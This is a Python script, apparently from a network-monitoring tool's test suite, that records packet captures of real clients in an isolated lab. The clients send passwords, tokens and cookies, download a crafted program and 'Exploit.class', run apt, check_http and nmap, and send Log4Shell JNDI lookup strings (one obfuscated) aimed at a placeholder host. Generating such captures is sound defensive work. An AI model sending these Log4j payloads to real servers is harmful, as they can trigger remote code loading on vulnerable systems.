"""Record pcaps/clear: real clients that give something away, fetch programs, update, monitor, scan. No OCSP in it.

As root: python -m pcaps.clear.record [--into DIR]. Beside what every recording needs: monitoring-plugins-basic, nmap,
wget, apt, a JDK.
"""

from __future__ import annotations

import argparse
import datetime as dt
import hashlib
import subprocess
import sys
import tempfile
from pathlib import Path

from pcaps.clear.craft import ELF, JAVA_CLASS, SHELL
from pcaps.lab import ledger, truth
from pcaps.lab.netns import Lab
from pcaps.lab.services import start_nginx

HERE = Path(__file__).parent
SITE = "http://www.harbour.example"
CHECK_HTTP = "/usr/lib/nagios/plugins/check_http"
FETCH = """class Fetch {
  public static void main(String[] a) throws Exception { new java.net.URL(a[0]).openStream().read(); }
}
"""


class Bench:
    """One web server for pages, downloads and a Debian archive; one client."""

    def __init__(self, lab: Lab) -> None:
        self.folder = lab.folder
        www = lab.folder / "www"
        (www / "debian").mkdir(parents=True)
        (www / "index.html").write_text("<!DOCTYPE html><html><head><title>Harbour</title></head></html>\n")
        (www / "agent").write_bytes(ELF)
        (www / "install.sh").write_bytes(SHELL)
        (www / "Exploit.class").write_bytes(JAVA_CLASS)
        packages = b"Package: tide-table\nVersion: 1.0\nArchitecture: all\nMaintainer: n\nDescription: tides\n\n"
        (www / "debian" / "Packages").write_bytes(packages)
        size, digest = len(packages), hashlib.sha256(packages).hexdigest()
        (www / "debian" / "Release").write_text(f"Suite: ./\nSHA256:\n {digest} {size} Packages\n")
        lab.address("198.51.100.60")
        self.client = lab.client("c", "10.20.0.24")
        lab.publish({name: ["198.51.100.60"] for name in ("www.harbour.example", "deb.harbour.example")})
        login = (
            "location = /login { add_header Set-Cookie 'PHPSESSID=5e7e1a; Path=/; HttpOnly'; return 200 'welcome'; }"
        )
        start_nginx(lab.servers, "front", f"  server {{ listen 80; server_name _; root {www}; {login} }}\n", [80])
        (lab.folder / "Fetch.java").write_text(FETCH)

    def run(self, *words: str) -> None:
        self.client.run(*words, check=False)


def credentials(bench: Bench) -> None:
    bench.run("curl", "-s", "-u", "ola:hunter2", f"{SITE}/")
    bench.run("curl", "-s", "--oauth2-bearer", "eyJhbGciOiJub25lIn0.e30.", f"{SITE}/")
    bench.run("curl", "-s", "-d", "username=ola&password=hunter2", f"{SITE}/login")


def cookies(bench: Bench) -> None:
    jar = str(bench.folder / "jar")
    bench.run("curl", "-s", "-c", jar, f"{SITE}/login")
    bench.run("curl", "-s", "-b", jar, f"{SITE}/")


def download(bench: Bench) -> None:
    bench.run("wget", "-q", "-O", "/dev/null", f"{SITE}/agent")
    bench.run("curl", "-s", f"{SITE}/install.sh")


def log4j(bench: Bench) -> None:
    bench.run("curl", "-s", "-A", "${jndi:ldap://198.51.100.66:1389/a}", f"{SITE}/")
    bench.run(
        "curl",
        "-s",
        "-g",
        "-H",
        "X-Api-Version: ${${::-j}ndi:rmi://198.51.100.66/a}",
        f"{SITE}/?q=${{jndi:dns://x.example}}",
    )


def java_class(bench: Bench) -> None:
    bench.run("java", str(bench.folder / "Fetch.java"), f"{SITE}/Exploit.class")


def apt(bench: Bench) -> None:
    home = bench.folder / "apt"
    for name in (
        "state/lists/partial",
        "cache/archives/partial",
        "etc/apt.conf.d",
        "etc/preferences.d",
        "etc/trusted.gpg.d",
    ):
        (home / name).mkdir(parents=True, exist_ok=True)
    (home / "sources.list").write_text("deb [trusted=yes] http://deb.harbour.example/debian ./\n")
    (home / "status").write_text("")
    options = {
        "Dir::State": home / "state",
        "Dir::State::status": home / "status",
        "Dir::Cache": home / "cache",
        "Dir::Etc": home / "etc",
        "Dir::Etc::sourcelist": home / "sources.list",
        "Dir::Etc::sourceparts": "/dev/null",
        "APT::Sandbox::User": "root",
        "Acquire::Languages": "none",
    }
    bench.run("apt-get", *(f"-o{name}={value}" for name, value in options.items()), "update")


def check_http(bench: Bench) -> None:
    bench.run(CHECK_HTTP, "-H", "www.harbour.example")


def nmap(bench: Bench) -> None:
    bench.run("nmap", "-n", "-Pn", "-sT", "-p", "80", "--script", "http-title,http-git", "www.harbour.example")


SCENARIOS = {
    "curl-credentials": (
        credentials,
        "curl sends a password, a token, and a form with a password",
        ["curl", "--version"],
    ),
    "curl-cookies": (cookies, "a session's cookie is set and sent", ["curl", "--version"]),
    "wget-download": (download, "wget fetches a Linux program, curl a shell script", ["wget", "--version"]),
    "curl-log4j": (log4j, "Log4j lookups in User-Agent, another header and the target", ["curl", "--version"]),
    "java-fetches-class": (java_class, "Java fetches a class", ["java", "--version"]),
    "apt-update": (apt, "apt-get update at a mirror", ["apt-get", "--version"]),
    "check-http": (check_http, "the Monitoring Plugins' check_http", [CHECK_HTTP, "--version"]),
    "nmap-scripts": (nmap, "nmap's scripts http-title and http-git", ["nmap", "--version"]),
}


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--into", type=Path, default=HERE, help="another folder; the committed captures stay")
    into: Path = parser.parse_args().into
    entries = {}
    with tempfile.TemporaryDirectory(prefix="ocspwatch-lab-") as name, Lab(Path(name)) as lab:
        bench = Bench(lab)
        for scenario, (run, shows, asked) in SCENARIOS.items():
            target = into / f"{scenario}.pcap"
            with lab.record(target):
                run(bench)
            if not truth.messages(target) or truth.exchanges(target):
                raise SystemExit(f"{scenario}: no HTTP, or OCSP")
            said = subprocess.run(asked, capture_output=True, text=True, check=False).stdout
            tool = " ".join(said.splitlines()[0].split()[:3]).rstrip(",") if said else asked[0]
            today = dt.datetime.now(dt.UTC).date().isoformat()
            entries[f"clear/{scenario}.pcap"] = ledger.entry(
                "recorded", "clear/record.py", tool, today, shows, "tshark+openssl", []
            )
            print(f"{scenario}: {tool}, {target.stat().st_size} bytes")
    if into == HERE:
        ledger.enter(entries, "clear/record.py")
    return 0


if __name__ == "__main__":
    sys.exit(main())
